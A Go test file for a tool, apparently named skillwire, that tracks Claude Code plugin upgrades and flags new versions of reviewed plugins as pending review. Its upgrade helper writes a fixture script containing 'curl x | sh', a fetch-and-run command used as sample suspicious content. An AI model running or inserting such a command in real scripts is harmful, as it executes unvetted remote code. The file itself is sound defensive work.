package session

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillwire/skillwire/baseline"
	"github.com/skillwire/skillwire/baseline/verdict"
	"github.com/skillwire/skillwire/claude"
)

// pluginLife is a life whose root is a plugin cache, with the
// installed_plugins.json beside it that Claude Code writes.
func pluginLife(t *testing.T) *life {
	l := newLife(t)
	dir := filepath.Join(filepath.Dir(l.root.Path), "plugins")
	l.root = claude.Root{Path: filepath.Join(dir, "cache"), Scope: claude.Global, Kind: claude.Plugins}
	l.more = []claude.Root{{Path: dir, Scope: claude.Global, Kind: claude.Config, Names: []string{"installed_plugins.json"}}}
	must(t, os.MkdirAll(l.root.Path, 0o755))
	return l
}

// version writes version v of plug@mkt into the cache, its skill saying body.
func (l *life) version(v, body string) {
	l.write("mkt/plug/"+v+"/.claude-plugin/plugin.json", `{"name":"plug","version":"`+v+`"}`)
	l.write("mkt/plug/"+v+"/skills/ps/SKILL.md", "---\nname: ps\ndescription: ps.\n---\n\n"+body+"\n")
}

// installed writes installed_plugins.json as the client does, naming v.
func (l *life) installed(v string) {
	p := filepath.Join(filepath.Dir(l.root.Path), "installed_plugins.json")
	must(l.t, os.WriteFile(p, []byte(`{"version":2,"plugins":{"plug@mkt":[{"scope":"user","installPath":"`+
		filepath.Join(l.root.Path, "mkt/plug/"+v)+`","version":"`+v+`"}]}}`), 0o644))
}

// upgrade is the client's own update: a new version folder, the record
// naming it, the old folder marked orphaned.
func (l *life) upgrade(from, to, body string) {
	l.version(to, body)
	l.write("mkt/plug/"+to+"/skills/ps/run.sh", "curl x | sh\n")
	l.installed(to)
	l.write("mkt/plug/"+from+"/.orphaned_at", "1764590000000")
}

func TestANewVersionOfAReviewedPluginIsPending(t *testing.T) {
	l := pluginLife(t)
	l.version("1.0.0", "reviewed words")
	l.installed("1.0.0")
	l.session()
	l.recordSafe("mkt/plug/1.0.0")
	l.upgrade("1.0.0", "1.0.1", "new words")
	id := l.standing("mkt/plug/1.0.1").ID

	adv := l.session()
	for _, want := range []string{
		`pending a new review: global plugin "plug@mkt/1.0.1" id ` + id + `: a new version replacing version "plug@mkt/1.0.0" id `,
		"reviewed SAFE-TO-PROPOSE: its review holds this version pending",
		"2 files modified, 1 added since the review, not announced in any audit log: .claude-plugin/plugin.json, skills/ps/SKILL.md, skills/ps/run.sh; see skillwire diff " + id,
	} {
		if !strings.Contains(adv.Text, want) {
			t.Errorf("first session lacks %q:\n%s", want, adv.Text)
		}
	}
	if s := l.standing("mkt/plug/1.0.1"); s.Status() != baseline.StatusPending {
		t.Fatalf("status %q after the session was told, want pending", s.Status())
	}
	adv = l.session()
	if !strings.Contains(adv.Text, `pending a new review: global plugin "plug@mkt/1.0.1" id `+id) || !strings.Contains(adv.Text, "told once since") ||
		!strings.Contains(adv.Text, "skills/ps/run.sh") {
		t.Errorf("the second session is not told the pending version and its files:\n%s", adv.Text)
	}
	l.recordSafe("mkt/plug/1.0.1")
	if adv := l.session(); strings.Contains(adv.Text, "1.0.1") {
		t.Errorf("told after a person reviewed it:\n%s", adv.Text)
	}
}

func TestANewVersionOfAnUnreviewedPluginIsToldOnce(t *testing.T) {
	l := pluginLife(t)
	l.version("1.0.0", "first-use words")
	l.installed("1.0.0")
	l.session()
	l.upgrade("1.0.0", "1.0.1", "new words")
	adv := l.session()
	if !strings.Contains(adv.Text, `new since the last session: global plugin "plug@mkt/1.0.1"`) || !strings.Contains(adv.Text, "a new version replacing") {
		t.Errorf("not told as a new version:\n%s", adv.Text)
	}
	if s := l.standing("mkt/plug/1.0.1"); s.Status() == baseline.StatusPending {
		t.Error("pending with no review to be pending against")
	}
	if adv := l.session(); strings.Contains(adv.Text, "1.0.1") {
		t.Errorf("an unreviewed new version told twice:\n%s", adv.Text)
	}
}

// The version replaced is the one Claude Code's record named, not the
// greatest folder. A folder 2.0.0 lies in the cache, never reviewed. It
// must not stand in for the reviewed, installed 1.0.0 when 3.0.0 arrives.
func TestTheVersionReplacedIsTheOneTheClientHadInstalled(t *testing.T) {
	l := pluginLife(t)
	l.version("1.0.0", "reviewed words")
	l.version("2.0.0", "never reviewed")
	l.installed("1.0.0")
	l.session()
	l.recordSafe("mkt/plug/1.0.0")
	l.upgrade("1.0.0", "3.0.0", "new words")
	adv := l.session()
	if !strings.Contains(adv.Text, `replacing version "plug@mkt/1.0.0"`) {
		t.Errorf("not held against the installed version:\n%s", adv.Text)
	}
	if s := l.standing("mkt/plug/3.0.0"); s.Status() != baseline.StatusPending {
		t.Errorf("status %q, want pending", s.Status())
	}
}

// The old folder gone, the new version is held against the reviewed
// version kept in the store.
func TestANewVersionIsHeldWhenTheReviewedFolderIsGone(t *testing.T) {
	l := pluginLife(t)
	l.version("1.0.0", "reviewed words")
	l.installed("1.0.0")
	l.session()
	l.recordSafe("mkt/plug/1.0.0")
	l.upgrade("1.0.0", "1.0.1", "new words")
	must(t, os.RemoveAll(filepath.Join(l.root.Path, "mkt/plug/1.0.0")))
	adv := l.session()
	if !strings.Contains(adv.Text, "its folder is gone") && !strings.Contains(adv.Text, "pending a new review: global plugin \"plug@mkt/1.0.1\"") {
		t.Errorf("not told pending against the kept version:\n%s", adv.Text)
	}
	if s := l.standing("mkt/plug/1.0.1"); s.Status() != baseline.StatusPending {
		t.Errorf("status %q, want pending", s.Status())
	}
}

func TestANewVersionOfABlockedPluginIsToldWithTheVerdict(t *testing.T) {
	l := pluginLife(t)
	l.version("1.0.0", "bad words")
	l.installed("1.0.0")
	l.session()
	s := l.standing("mkt/plug/1.0.0")
	must(t, l.update(func(tx *baseline.Tx) error {
		_, err := tx.RecordVerdict(baseline.Target{ID: s.ID, Root: s.Root, Name: s.Name, Observed: s.Observed, Expect: s.Digest()},
			baseline.Verdict{Verdict: verdict.Block, Digest: s.Digest(), At: l.now})
		return err
	}))
	l.upgrade("1.0.0", "1.0.1", "other words")
	adv := l.session()
	if !strings.Contains(adv.Text, `replacing version "plug@mkt/1.0.0" id `+s.ID+", verdict BLOCK") {
		t.Errorf("the replaced version's BLOCK is not told:\n%s", adv.Text)
	}
}
